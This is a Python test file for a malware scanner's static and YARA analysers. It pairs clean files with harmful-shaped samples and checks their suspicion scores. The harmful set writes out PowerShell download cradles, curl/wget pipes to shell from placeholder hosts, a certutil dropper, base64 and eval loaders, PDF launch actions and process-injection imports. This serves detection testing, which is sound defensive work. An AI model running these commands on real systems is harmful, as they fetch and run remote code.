"""Shapes of clean files that must not be findings, beside similar shapes that must be findings."""

from collections.abc import Awaitable, Callable

import lief
import pytest

from identification import kinds
from samplebank.worker.contract import Result
from worker import made_files

Analyse = Callable[[bytes], Awaitable[Result]]

SUSPICIOUS = 30
RISCV, SH, PARISC, X86_64 = 243, 42, 15, 62
INJECTION = ("OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread")
NATIVE_INJECTION = ("NtOpenProcess", "NtAllocateVirtualMemory", "NtWriteVirtualMemory", "NtCreateThreadEx")
PROSE = "This page tells how the thing is used, line by line.\n" * 20
MINIFIED = (
    "var n=function(){return t.run=r,t.use=n,t;function r(){var i=-1,u=p.call(arguments,0,-1);return i}};"
)
SPECIFICATION = (
    "{\\rtf1\\ansi "
    + "The control word \\\\objdata 0105000002000000 follows \\\\objemb and \\\\objupdate.\\par " * 20
    + "}"
)
WORDS = (
    "KEYWORDS = {\n    'May download files': ('Net.WebClient', 'DownloadFile', 'DownloadString', 'MSXML2.XMLHTTP', 'ADODB.Stream',\n"
    "        'URLDownloadToFile', 'Invoke-WebRequest'),\n    'May run programs': ('WScript.Shell', 'Shell.Application', 'IEX',\n"
    "        'Invoke-Expression', 'ShellExecute'),\n}\n"
)
HARMLESS = {
    "specification of rtf": SPECIFICATION.encode(),
    "list of words": WORDS.encode(),
    "installer in a document": (
        PROSE + "curl -LsSf https://get.example.org/install.sh | sh\n" + PROSE
    ).encode(),
    "installer for PowerShell": (
        PROSE + 'powershell -c "irm https://get.example.org/install.ps1 | iex"\n' + PROSE
    ).encode(),
    "minified library": MINIFIED.encode() * 300,
    "viewer that saves": b"function save(m){m.downloadData(d,n,'application/pdf')}\nwhile((m=/a/.exec(t))){s+=String.fromCharCode(m[1])}\n",
    "source map": b'{"version":3,"sourcesContent":["decode(s) { return atob(s); }'
    + b"function other() { return 1; }" * 40
    + b'run(s) { return eval(s); }"]}',
    "firmware of RISC-V": kinds.elf(RISCV, address=0x80000000, rights=7),
    "library of SH-4": kinds.elf(SH, rights=7),
    "library of PA-RISC": kinds.elf(PARISC, rights=7),
    "firmware with a program": kinds.elf(X86_64)[:500]
    + bytes(6000)
    + kinds.with_sentence(kinds.pe(subsystem=10)),
    "constants in a code segment": kinds.macho(
        (b"__text", 0x80000400, bytes(4096)), (b"__const", 0, kinds.noise(8192))
    ),
    "pdf that opens a pdf": made_files.pdf(
        "<< /S /Launch /F 2 0 R >>", "<< /F (toolkit\\056pdf) /Type /Filespec >>"
    ),
    "form of a pdf": made_files.pdf("<< /S /JavaScript /JS (check()) >>", "<< /EmbeddedFile 3 0 R >>"),
}
#: the same kinds of files, used for harm
HARMFUL = {
    "object in rtf": b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 01050000020000000b000000}}}",
    "object in rtf behind blanks": b" \n{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 01050000020000000b000000}}}",
    "cradle": b"$d = (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\nInvoke-Expression $d\n",
    "piped cradle": b"iwr http://203.0.113.7/a.ps1 -UseBasicParsing | iex\n",
    "dropper in JScript": b"var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', u, false); x.send();\n"
    b"var s = new ActiveXObject('ADODB.Stream'); var w = new ActiveXObject('WScript.Shell'); w.Run(p, 0);\n",
    "pipe from the network": b"curl http://203.0.113.7/x.sh | sh\n",
    "pipe from the network by TLS": b"#!/bin/sh\n"
    + b"# comment\n" * 60
    + b"wget -qO- https://evil.example/x | bash\n",
    "decoded script": b"eval(unescape('" + b"%61%6c" * 4000 + b"'));\n",
    "decoded shell": b"echo " + b"QUJD" * 2000 + b" | base64 -d | bash\n",
    "decoded python": b"import base64\nexec(base64.b64decode('" + b"QUJD" * 2000 + b"'))\n",
    "decoded php": b"<?php eval(gzinflate(base64_decode('QUJD'))); ?>\n",
    "hidden program": b'CreateObject("WScript.Shell").Run "cmd /c certutil -urlcache -f http://203.0.113.7/a a.exe", 0, False\n',
    "pdf that starts a program": made_files.pdf("<< /S /Launch /Win << /F (cmd.exe) >> >>"),
    "pdf that starts a script": made_files.pdf("<< /S /Launch /F (run.vbs) >>", "<< /F (toolkit.pdf) >>"),
    "pdf behind other bytes": b"A" * 250 + made_files.pdf("<< /S /Launch /Win << /F (cmd.exe) >> >>"),
    "native injection": made_files.importing("ntdll.dll", *NATIVE_INJECTION),
    "injection": made_files.importing("kernel32.dll", *INJECTION),
    "packed code": made_files.packed(),
}


@pytest.mark.parametrize("name", HARMLESS)
async def test_a_clean_file_is_not_suspicious(static: Analyse, yara: Analyse, name: str) -> None:
    scores = [(await analyse(HARMLESS[name])).score for analyse in (static, yara)]

    assert max(scores) < SUSPICIOUS


@pytest.mark.parametrize("name", HARMFUL)
async def test_a_harmful_file_is_suspicious(static: Analyse, yara: Analyse, name: str) -> None:
    scores = [(await analyse(HARMFUL[name])).score for analyse in (static, yara)]

    assert max(scores) >= SUSPICIOUS


def offering(*functions: str) -> bytes:
    """A program with the imports of injectors, which offers functions to others."""
    binary = lief.PE.parse(made_files.importing("kernel32.dll", *INJECTION))
    assert binary is not None
    offered = lief.PE.Export()
    offered.name = "system.dll"
    for number, name in enumerate(functions):
        offered.add_entry(name, 0x1000 + number)
    binary.set_export(offered)
    config = lief.PE.Builder.config_t()
    config.imports = config.exports = True
    return binary.write_to_bytes(config)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(offering(*INJECTION), id="offers the same to others"),
        pytest.param(
            made_files.importing("ntdll.dll", *NATIVE_INJECTION, *(f"Nt{number}" for number in range(200))),
            id="imports most of the native functions",
        ),
    ],
)
async def test_a_part_of_the_system_may_import_what_injectors_do(static: Analyse, content: bytes) -> None:
    result = await static(content)

    assert "process-injection" not in {detection.name for detection in result.detections}
